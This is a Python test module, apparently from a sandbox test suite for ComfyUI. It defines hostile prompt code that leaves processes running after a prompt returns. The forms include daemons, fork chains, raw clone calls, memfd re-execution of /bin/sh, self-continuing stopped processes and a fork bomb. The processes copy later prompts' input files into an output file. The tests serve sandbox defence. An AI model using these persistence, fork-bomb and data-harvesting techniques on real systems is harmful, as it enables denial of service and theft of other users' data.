"""Contains code of hostile prompts whose processes try to outlive them.

Each form runs in ComfyUI's process, leaves processes behind, and returns. The processes look for the
input files of later prompts, and write what they read to the output folder, as the file ``caught``.
"""

from __future__ import annotations

CAUGHT = "caught"
_PRELUDE = f"""
import ctypes, os, signal, subprocess, sys, threading, time
inputs = folder_paths.get_input_directory() + "/moyin"
caught = folder_paths.get_output_directory() + "/{CAUGHT}"
libc = ctypes.CDLL(None, use_errno=True)

def look(seconds=0.0):
    over = time.monotonic() + seconds
    while True:
        for name in os.listdir(inputs):
            try:
                with open(inputs + "/" + name, "rb") as source, open(caught, "ab") as target:
                    target.write(source.read() or b"empty")
            except OSError:
                pass
        if time.monotonic() >= over:
            return
        time.sleep(0.001)

def leave(body):
    if os.fork() == 0:
        try:
            body()
        finally:
            os._exit(0)

# Flags of the system call clone, and numbers of system calls on x86_64 and aarch64.
VM, VFORK, PARENT = 0x100, 0x4000, 0x8000
EXIT, PRCTL = (60, 157) if os.uname().machine == "x86_64" else (93, 167)

def clone(flags, body):
    # The child of a raw clone continues like one of fork, unless it shares the memory.
    number = 56 if os.uname().machine == "x86_64" else 220
    if libc.syscall(number, flags, 0, 0, 0, 0) == 0:
        try:
            body()
        finally:
            os._exit(0)
"""
_CHAIN = """
def chain():
    # The process that forked ends at once, so each one lives for a moment only.
    while True:
        if os.fork():
            os._exit(0)
        look()
"""
FORMS = {
    "a process in the background": "leave(lambda: look(60))",
    "a daemon": """
def daemon():
    os.setsid()
    if os.fork() == 0:
        look(60)
leave(daemon)
""",
    "a chain of processes": f"{_CHAIN}\nleave(chain)",
    "many chains of processes": f"""
{_CHAIN}
def session():
    os.setsid()
    chain()
for _ in range(8):
    leave(session)
""",
    "children in new groups and sessions": """
def groups():
    for number in range(20):
        if os.fork() == 0:
            os.setsid() if number % 2 else os.setpgid(0, 0)
            if os.fork() == 0:
                os.setpgid(0, 0)
            while True:
                look(60)
leave(groups)
""",
    "siblings by clone": """
def siblings():
    os.setsid()
    for _ in range(5):
        clone(PARENT | signal.SIGCHLD, lambda: look(60))
leave(siblings)
""",
    "a process that shares ComfyUI's memory": """
stack = kept.setdefault("stacks", [])
stack.append(ctypes.create_string_buffer(1 << 16))
top = ctypes.c_void_p((ctypes.addressof(stack[-1]) + (1 << 16)) & ~63)
assert libc.clone(libc.pause, top, VM | signal.SIGCHLD, None) > 0
""",
    "a process that vfork started": """
script = "while :; do for f in '%s'/*; do cat $f >> '%s'; done; done" % (inputs, caught)
subprocess.Popen(["/bin/sh", "-c", script], start_new_session=True, stderr=subprocess.DEVNULL)
""",
    "threads whose first thread has ended": """
def zombie_leader():
    for _ in range(3):
        threading.Thread(target=look, args=(60,)).start()
    libc.syscall(EXIT, 0)
leave(zombie_leader)
time.sleep(0.05)
""",
    "a program in memory": """
def reexecute():
    program = os.memfd_create("program", 0)
    os.write(program, open("/bin/sh", "rb").read())
    script = "while :; do for f in '%s'/*; do cat $f >> '%s' 2>/dev/null; done; done" % (inputs, caught)
    while True:
        if os.fork() == 0:
            os.execv("/proc/self/fd/%d" % program, ["sh", "-c", script])
        look(0.2)
leave(reexecute)
""",
    "stopped processes that another one continues": """
def stopped():
    libc.ptrace(0, 0, None, None)
    while True:
        os.kill(os.getpid(), signal.SIGSTOP)
        leave(lambda: look(0.05))
def waker():
    pids = []
    for _ in range(5):
        pids.append(os.fork())
        if not pids[-1]:
            stopped()
    while True:
        for pid in pids:
            os.kill(pid, signal.SIGCONT)
        time.sleep(0.001)
leave(waker)
""",
    "processes that continue themselves": """
class Event(ctypes.Structure):
    _fields_ = (("value", ctypes.c_void_p), ("number", ctypes.c_int), ("kind", ctypes.c_int),
                ("rest", ctypes.c_char * 48))
class Times(ctypes.Structure):
    _fields_ = tuple((name, ctypes.c_long) for name in ("s", "n", "first_s", "first_n"))
def body():
    signal.signal(signal.SIGCONT, lambda *_: None)
    libc.prctl(1, signal.SIGCONT, 0, 0, 0)
    timer = ctypes.c_void_p()
    libc.timer_create(1, ctypes.byref(Event(None, signal.SIGCONT, 0)), ctypes.byref(timer))
    libc.timer_settime(timer, 0, ctypes.byref(Times(0, 50000, 0, 50000)), None)
    while True:
        look(0.01)
        if os.fork():
            time.sleep(0.02)
            os._exit(0)
        os.setpgid(0, 0)
        body()
for _ in range(5):
    leave(body)
""",
    "two hundred forks a second": """
def storm():
    for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT, signal.SIGCHLD):
        signal.signal(number, signal.SIG_IGN)
    while True:
        leave(lambda: look(0.05))
        time.sleep(0.005)
leave(storm)
""",
    "threads that fork": """
def fork():
    while True:
        leave(look)
def storm():
    signal.signal(signal.SIGCHLD, signal.SIG_IGN)
    for _ in range(8):
        threading.Thread(target=fork).start()
leave(storm)
""",
    "a fork bomb": """
def bomb():
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)
        look()
leave(bomb)
time.sleep(0.5)
""",
}
# Returns the processes besides the sandbox's first and ComfyUI, and what was caught.
LOOK_AROUND = f"""
import os, time
def read(name):
    try:
        with open("/proc/%s/stat" % name) as file:
            head, _, rest = file.read().rpartition(") ")
    except OSError:
        return None
    state, threads = rest.split()[0], int(rest.split()[17])
    return None if state == "Z" and threads < 2 else head
pids = {{"1", "2", *map(str, kept.get("helpers", ()))}}
found = [read(name) for name in os.listdir("/proc") if name.isdigit() and name not in pids]
time.sleep(0.1)
found += [read(name) for name in os.listdir("/proc") if name.isdigit() and name not in pids]
found = [head for head in found if head]
if os.path.exists(folder_paths.get_output_directory() + "/{CAUGHT}"):
    found.append("the input was read")
"""


def build_survivor(form: str) -> str:
    """Return the code of a form, which reads ``folder_paths`` and the dictionary ``kept``."""
    return f"{_PRELUDE}\n{FORMS[form]}\nfound = True"
